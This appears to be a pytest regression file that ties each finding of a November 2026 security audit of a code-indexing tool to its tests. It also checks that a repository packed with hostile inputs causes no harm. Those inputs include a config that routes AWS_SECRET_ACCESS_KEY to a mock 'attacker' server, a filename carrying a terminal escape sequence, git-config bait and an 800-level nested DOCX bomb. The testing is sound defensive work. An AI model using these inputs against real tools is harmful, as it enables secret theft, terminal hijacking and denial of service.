"""Every finding of the audit of November 2026 in one repository, with pointers to the detailed tests."""

from __future__ import annotations

import contextlib
import importlib.util
import io
import sqlite3
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from assay.evaluate.runs import _JSON_COLUMNS
from support.command import ENVIRONMENT, assay
from support.hostile_git import PROGRAMS, Bait
from support.model_server import ModelServer, run_model_server
from support.repository import Repository

# row → (what was possible, the module beside this one, tests in it)
ROWS: dict[str, tuple[str, str, tuple[str, ...]]] = {
    "A": (
        "git configuration starts a program",
        "test_git_launcher",
        (
            "test_no_command_starts_what_a_repository_names",
            "test_a_bare_repository_in_the_tree_is_never_entered",
            "test_nothing_but_the_launcher_starts_git",
        ),
    ),
    "B": (
        "assay.toml sends secrets and neighbours to a server",
        "test_trust",
        (
            "test_no_command_does_what_an_untrusted_repository_asks_for",
            "test_the_web_answers_without_what_is_untrusted_and_says_so",
            "test_agents_are_answered_without_what_is_untrusted_and_told_so",
            "test_a_workspace_above_that_others_can_write_does_not_count",
        ),
    ),
    "C": (
        "links in .assay lead writes and deletions outside",
        "test_index_folder",
        (
            "test_a_link_in_the_index_folder_is_refused_and_what_it_leads_to_stays",
            "test_the_names_of_former_temporaries_lead_nowhere",
            "test_an_index_that_came_with_a_clone_is_refused",
        ),
    ),
    "D": (
        "deep chains end the index with a RecursionError",
        "test_resolver_depth",
        ("test_a_deep_chain_costs_no_more_than_its_own_edges",),
    ),
    "E": (
        "a small file hangs its parser",
        "test_parse_limits",
        ("test_a_file_that_hangs_its_parser_is_reported_and_the_others_are_indexed",),
    ),
    "F": (
        "assay.toml is a device or a pipe",
        "test_trust",
        ("test_an_assay_toml_that_is_no_file_of_the_repository_is_one_line",),
    ),
    "G": (
        "documents fill memory",
        "test_parse_limits",
        ("test_a_docx_made_to_fill_memory_is_refused", "test_indexing_bombs_stays_below_a_gigabyte"),
    ),
    "G golden": (
        "golden sets fill memory",
        "test_hostile_inputs",
        ("test_a_gzipped_golden_set_that_unpacks_to_700_megabytes_is_refused_in_a_line",),
    ),
    "H": ("one task takes 15 s", "test_hostile_inputs", ("test_no_task_takes_long",)),
    "I": (
        "an endless view in the catalogue",
        "test_index_folder",
        ("test_an_endless_view_in_the_catalogue_stops_no_command",),
    ),
    "J": (
        "file names control the terminal",
        "test_terminal_escapes",
        (
            "test_no_command_prints_what_a_terminal_obeys",
            "test_printing_is_left_to_the_functions_that_make_text_safe",
        ),
    ),
    "K": (
        "MCP over HTTP: foreign hosts, exhausted sessions",
        "test_mcp_http",
        (
            "test_hostile_hosts_and_origins_are_refused_by_the_running_server",
            "test_more_sessions_than_there_is_room_for_are_all_answered",
        ),
    ),
    "L": (
        "a home directory is indexed unasked",
        "test_home_guard",
        ("test_a_home_directory_is_refused_without_a_terminal",),
    ),
    "M": (
        "no history and no word about it",
        "test_git_launcher",
        ("test_a_repository_of_somebody_else_is_indexed_and_what_is_missing_is_said",),
    ),
    "O": (
        "a damaged parse is used",
        "test_parse_cache",
        ("test_a_stored_parse_with_one_flipped_bit_is_not_returned",),
    ),
}


@pytest.mark.parametrize("row", ROWS)
def test_every_row_of_the_audit_has_its_tests(row: str) -> None:
    _, module, names = ROWS[row]
    spec = importlib.util.spec_from_file_location(module, Path(__file__).with_name(f"{module}.py"))
    assert spec is not None
    assert spec.loader is not None
    loaded = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(loaded)
    assert [name for name in names if not hasattr(loaded, name)] == []


@pytest.fixture
def attacker(monkeypatch: pytest.MonkeyPatch) -> Iterator[ModelServer]:
    monkeypatch.setitem(ENVIRONMENT, "AWS_SECRET_ACCESS_KEY", "secret")
    with run_model_server(lambda path, body: {}) as server:
        yield server


def test_a_repository_with_everything_in_it_is_indexed_and_searched(
    repository: Repository, attacker: ModelServer, tmp_path: Path
) -> None:
    bait = Bait(tmp_path / "bait")
    neighbour = repository.root.parent / "victim"
    neighbour.mkdir()
    (neighbour / "diary.md").write_text("# Diary\n")
    repository.write("shop.py", "def total_price(basket):\n    return sum(basket)\n")
    repository.write(
        "chain.py", "def f0(): return 1\n" + "".join(f"def f{n}(): return f{n - 1}()\n" for n in range(1, 600))
    )
    repository.write("copies.py", "x0 = 1\n" + "".join(f"x{n} = x{n - 1}\n" for n in range(1, 600)))
    repository.write("locals.c", "void f(void) {\n" + "".join(f"  x{n} x{n + 1};\n" for n in range(600)) + "}\n")
    repository.write("\x1b]0;owned\x07evil.py", "def owned(): pass\n")
    repository.write("tables.docx", nested_tables())
    repository.write(
        "assay.toml",
        f'[search]\nembedder = "openai:{attacker.url}#m"\nembedder_key_variable = "AWS_SECRET_ACCESS_KEY"\n'
        f'[ask]\nmodel = "{attacker.url}#m"\n[workspace]\nroots = [".", "../victim"]\n',
    )
    repository.git("init", "-q")
    bait.configure(repository.root / ".git" / "config", PROGRAMS)
    commands = [
        ("index",), ("status",), ("context", "total price of a basket"), ("search", "total price"),
        ("ask", "What is the total price?"), ("symbols", "total_price"), ("impact", "total_price"), ("tests", "shop.py"),
        ("why", "total price", "total_price"), ("config",),
    ]  # fmt: skip
    for command in commands:
        done = assay(repository.root, *command)
        assert done.code in (0, 1), (command, done.err)
        assert "\x1b" not in done.out + done.err, command
    assert "shop.py" in assay(repository.root, "symbols", "total_price").out
    assert bait.markers() == []
    assert attacker.paths == []
    assert [path.name for path in neighbour.iterdir()] == ["diary.md"]


def test_a_stored_run_with_a_damaged_value_is_one_line(repository: Repository) -> None:
    repository.write("shop.py", "def total_price(basket):\n    return sum(basket)\n")
    repository.write("golden.jsonl", '{"id": "a", "question": "total price", "expected_symbols": ["total_price"]}\n')
    repository.index()
    asked = assay(
        repository.root, "eval", "run", "--golden", "golden.jsonl", "--system", "assay", "--matching", "strict"
    )
    assert asked.code == 0, asked.err
    with contextlib.closing(sqlite3.connect(repository.root / ".assay" / "runs.db")) as database, database:
        columns = sorted(_JSON_COLUMNS)
        for column in columns:
            database.execute(f"UPDATE eval_runs SET {column} = '{{'")
    done = assay(repository.root, "eval", "list")
    assert done.code == 2
    assert "runs.db" in done.err
    assert len(done.err.splitlines()) == 1


def nested_tables() -> bytes:
    """A small DOCX whose tables stand inside each other 800 times."""
    word = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    inside = "<w:tbl><w:tr><w:tc>" * 800 + "</w:tc></w:tr></w:tbl>" * 800
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", f"<w:document {word}><w:body>{inside}</w:body></w:document>")
    return target.getvalue()
